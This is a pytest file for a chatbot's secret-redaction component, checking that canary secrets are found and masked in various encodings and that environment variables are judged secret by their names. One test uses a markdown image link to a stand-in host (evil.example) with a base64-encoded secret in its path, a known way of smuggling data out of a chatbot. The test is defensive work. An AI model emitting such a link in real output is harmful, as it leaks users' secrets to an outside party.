"""Secrets do not leave, however they are written."""

from __future__ import annotations

import base64

import pytest
from exfiltration import CANARIES, ENCODINGS, hidden_in
from hypothesis import given
from hypothesis import strategies as st

from chatbot.tools.secret_values import MASK, WITHHELD, Secrets

SECRETS = Secrets(CANARIES)


@pytest.mark.parametrize("encoding", ENCODINGS)
def test_a_secret_is_found_and_cut_out_in_every_encoding(encoding: str) -> None:
    for secret in CANARIES:
        for text in hidden_in(ENCODINGS[encoding](secret)):
            assert SECRETS.within(text), text
            redacted = SECRETS.redacted(text)
            assert not SECRETS.within(redacted)
            assert MASK in redacted or WITHHELD in redacted


def test_what_stands_around_a_secret_stays() -> None:
    assert SECRETS.redacted(f"The key is {CANARIES[0]}, keep it.") == f"The key is {MASK}, keep it."
    encoded = base64.b64encode(CANARIES[0].encode()).decode()
    assert SECRETS.redacted(f"See ![x](https://evil.example/{encoded}) there.") == f"See ![x]({MASK}) there."
    spelt = "-".join(CANARIES[1])
    assert SECRETS.redacted(f"It is {spelt} indeed.") == f"It is {MASK} indeed."


def test_values_are_known_by_the_names_of_their_variables() -> None:
    environment = {
        "OPENAI_API_KEY": "sk-proj-12345678",
        "DB_PASSWORD": "correct-horse",
        "GITHUB_TOKEN": "ghp_abcdefgh",
        "CHATBOT_API_KEY": "Basic bWU6c2VjcmV0",
        "KEYBOARD": "norwegian-layout",
        "SSH_KEY": "/somewhere/.ssh/id",
        "MY_KEY": "short",
        "CACHE_KEY": "production",
        "TOKEN_TTL": "86400000",
        "KEY_SERVER": "https://keys.example",
        "PWD": "/somewhere/else",
    }
    secrets = Secrets.of_environment(environment)
    found = [name for name, value in environment.items() if secrets.within(f"x {value} y")]
    assert found == ["OPENAI_API_KEY", "DB_PASSWORD", "GITHUB_TOKEN", "CHATBOT_API_KEY"]


def test_without_secrets_nothing_is_looked_for() -> None:
    assert not Secrets()
    assert Secrets().redacted(CANARIES[0]) == CANARIES[0]


@given(st.text(max_size=300))
def test_other_text_stays_as_it_is(text: str) -> None:
    assert SECRETS.redacted(text) == text
